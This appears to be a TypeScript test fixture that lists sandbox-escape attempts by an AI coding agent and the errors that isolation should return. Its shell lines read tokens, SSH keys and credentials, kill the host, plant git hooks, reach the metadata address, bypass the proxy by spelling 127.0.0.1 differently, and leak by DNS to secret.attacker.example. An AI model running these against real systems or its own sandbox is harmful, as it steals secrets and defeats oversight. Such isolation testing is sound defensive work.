/** What an agent tries from inside its pane, and how it shows that it has failed. */
export interface Attack {
  readonly name: string;
  /** A shell script. `$STATE` is the state folder, `$REPOSITORY` the repository, `$OTHER` another agent’s worktree. */
  readonly script: string;
  /** What the kernel or the filter answers. */
  readonly refusal: RegExp;
}

const gone = /No such file or directory/;
const readOnly = /Read-only file system/;

/** Each succeeds without isolation, as the agent runs as the person. */
export const sandboxAttacks: readonly Attack[] = [
  { name: 'reads the operator’s token', script: 'cat "$STATE"/operator.token', refusal: gone },
  { name: 'reads the database', script: 'head -c 16 "$STATE"/muster.db', refusal: gone },
  { name: 'reads the keys of the bus', script: 'cat "$STATE"/bus.keys/*', refusal: gone },
  { name: 'plants rules that change the next launch', script: 'ls "$STATE"/rules', refusal: gone },
  { name: 'reads another agent’s worktree', script: 'cat "$OTHER"/a.txt', refusal: gone },
  { name: 'reads the person’s SSH keys', script: 'cat "$HOME"/.ssh/id_test', refusal: gone },
  {
    name: 'reads a login beside installed programs',
    script: 'ls -d "$HOME"/.cargo/bin && wc -c < "$HOME"/.cargo/credentials.toml',
    refusal: /\.cargo\/bin\n(?:0$|.*Permission denied)/m,
  },
  { name: 'reads the environment of another process', script: 'cat /proc/"$HOST_PID"/environ', refusal: gone },
  { name: 'ends muster', script: 'kill -KILL "$HOST_PID"', refusal: /No such process/ },
  {
    name: 'types into another tmux server',
    script: 'tmux -S "$TMUX_SOCKET" send-keys x Enter',
    refusal: /No such file or directory|no server running|error connecting/,
  },
  { name: 'reaches the bus', script: 'socat /dev/null TCP4:127.0.0.1:"$BUS_PORT"', refusal: /Connection refused/ },
  {
    name: 'reaches a service on 127.0.0.1 that is not granted',
    script: 'socat /dev/null TCP4:127.0.0.1:"$OTHER_PORT"',
    refusal: /Connection refused/,
  },
  {
    name: 'reaches the metadata address',
    script: 'socat /dev/null TCP4:169.254.169.254:80,connect-timeout=3',
    refusal: /Network is unreachable/,
  },
  {
    name: 'reaches an address past the filter',
    script: 'socat /dev/null TCP4:192.0.2.1:443,connect-timeout=3',
    refusal: /Network is unreachable/,
  },
  {
    name: 'reaches a refused name through the filter',
    script: 'curl -sS -m 5 https://refused.example/',
    refusal: /CONNECT tunnel failed, response 403/,
  },
  {
    name: 'reaches 127.0.0.1 through the filter by another spelling',
    script:
      'for host in 127.1 0x7f000001 [::1] localhost; do curl -sS -m 5 --noproxy "" -x "$HTTPS_PROXY" "https://$host:$OTHER_PORT/"; done',
    refusal: /(?:response 403[\s\S]*){4}/,
  },
  {
    name: 'sends a name to the DNS of the network',
    script: 'getent hosts secret.attacker.example || echo "no name: $?"',
    refusal: /no name: 2/,
  },
  { name: 'plants a git hook', script: 'echo x > "$REPOSITORY"/.git/hooks/post-checkout', refusal: readOnly },
  { name: 'sets fsmonitor in the shared configuration', script: 'git config core.fsmonitor /tmp/x', refusal: readOnly },
  {
    name: 'leads its worktree to another repository',
    script: 'rm -f .git; ls -d .git; echo x > .git',
    refusal: /(?:Device or resource busy|Read-only file system)/,
  },
  {
    name: 'leads its worktree to another configuration',
    script: 'echo /tmp > "$(git rev-parse --git-dir)"/commondir; git config --worktree core.fsmonitor x',
    refusal: readOnly,
  },
  {
    name: 'moves another branch',
    script: 'git update-ref refs/heads/main HEAD~0 && git branch -f main HEAD',
    refusal: readOnly,
  },
  {
    // The folder around what is shown of the repository is the agent's own: what it writes there is nowhere else.
    name: 'writes into another repository by a symbolic link',
    script: 'ln -sfn "$REPOSITORY" out && echo x > out/planted.txt; ls "$REPOSITORY"/a.txt',
    refusal: /No such file or directory/,
  },
  { name: 'changes the system', script: 'echo x > /etc/planted', refusal: readOnly },
  {
    name: 'puts a program first on the PATH',
    script: 'echo x > "$STATE"/bin/muster',
    refusal: /Read-only file system|No such file or directory/,
  },
  {
    name: 'mounts over what it sees',
    script: 'mount -t tmpfs none /etc',
    refusal: /permission denied|must be superuser|not permitted/i,
  },
  {
    name: 'writes to a setting of the kernel',
    script: 'f=/proc/sys/kernel/core_pattern; now=$(cat $f); echo "$now" > $f',
    refusal: readOnly,
  },
  {
    name: 'writes to a setting of the kernel as root of a namespace of its own',
    script:
      'unshare -Urm sh -c "mount -o remount,rw,bind /proc/sys; mount -t proc none /tmp; cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern"',
    refusal: /Read-only file system|Operation not permitted/,
  },
  {
    name: 'tells the kernel what to do',
    script: 'test -w /proc/sysrq-trigger || { : > /proc/sysrq-trigger; }',
    refusal: /Read-only file system|nonexistent|Permission denied/,
  },
];
